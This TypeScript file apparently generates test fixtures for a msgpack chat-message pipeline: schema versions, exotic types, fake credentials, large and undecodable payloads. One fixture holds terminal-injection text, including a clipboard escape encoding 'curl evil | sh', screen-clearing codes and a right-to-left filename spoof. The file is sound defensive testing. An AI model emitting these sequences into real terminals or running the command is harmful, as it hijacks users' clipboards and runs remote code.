import {gzipSync} from 'node:zlib';
import {ExtData, encodeTimestampExtension} from '@msgpack/msgpack';
import {encodeValue} from '../payload/splice.ts';
import type {Random} from './random.ts';

const names = ['Ada', 'Grace', 'Łukasz', '李小龍', 'José', 'Zoë', 'نور', 'דנה', 'Nguyễn', '💥 Max'] as const;
const words = [
	'hello',
	'is anyone there?',
	'grüße aus Köln',
	'你好，世界',
	'see you at 5',
	'ok 👍',
	'the build is red',
] as const;

/** A chat message as the platform's producers write it today. */
export function message(random: Random, now: number): Record<string, unknown> {
	return {
		schema_version: 2,
		platform: random.pick(['discord', 'slack', 'matrix']),
		channel_id: `d${random.integer(90_000) + 10_000}`,
		user: {id: 184467440737095516n + BigInt(random.integer(40)), name: random.pick(names)},
		content: random.pick(words),
		ts: now / 1000,
		score: 1,
		flags: [1, random.integer(3), random.integer(3)],
	};
}

/** The same from a producer that was not yet updated: `text` for `content`, the user's id at the top. */
export function oldMessage(random: Random, now: number): Record<string, unknown> {
	const {content, user, schema_version: _, ...rest} = message(random, now);
	return {schema_version: 1, ...rest, text: content, user_id: (user as {id: bigint}).id};
}

export function pack(value: unknown): Buffer {
	return Buffer.from(encodeValue(value));
}

/** Every type that msgpack has and JSON lacks. */
export function exotic(random: Random, now: number): Record<string, unknown> {
	return {
		...message(random, now),
		raw: Uint8Array.of(0x00, 0xff, 0x10),
		largest: 2n ** 64n - 1n,
		ratio: 0.1,
		sent_at: new ExtData(-1, encodeTimestampExtension(new Date(now)) as Uint8Array),
		geo: new ExtData(42, Uint8Array.of(1, 2, 3, 4)),
		by_shard: new Map<number, string>([
			[1, 'one'],
			[2, 'two'],
		]),
	};
}

export function withSecrets(random: Random, now: number): Record<string, unknown> {
	return {
		...message(random, now),
		auth: {
			password: `hunter${random.integer(99)}`,
			access_token: `sk-${random.hex(24)}`,
			trace_id: `tr-${random.hex(8)}`,
		},
	};
}

/** Text that would take over a terminal that obeyed it. */
export function hostile(random: Random, now: number): Record<string, unknown> {
	return {
		...message(random, now),
		content:
			'\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7} \u{1b}[2J\u{1b}[H \u{202e}gnp.exe \u{200b}zero\u{200d}width \u{9b}31m',
		'key\u{1b}[31m': 'in a key, too',
	};
}

export function large(random: Random, now: number, size: number): Record<string, unknown> {
	return {
		...message(random, now),
		attachment: new Uint8Array(size).fill(random.integer(256)),
		log: 'x'.repeat(size),
	};
}

/** Payloads that no consumer can decode. */
export const poison = {
	reserved: (random: Random) => Buffer.from(`c1ff00${random.hex(20)}`, 'hex'),
	truncated: (random: Random, now: number) => {
		const whole = pack(message(random, now));
		return whole.subarray(0, whole.length - 9);
	},
	trailing: (random: Random, now: number) => Buffer.concat([pack(message(random, now)), Buffer.from('junk')]),
	json: (random: Random) => Buffer.from(JSON.stringify({content: 'JSON by mistake', n: random.integer(100)})),
	gzip: (random: Random, now: number) => gzipSync(pack(message(random, now))),
	badText: () => Buffer.from('81a4636f6e74a2fffe', 'hex'),
};
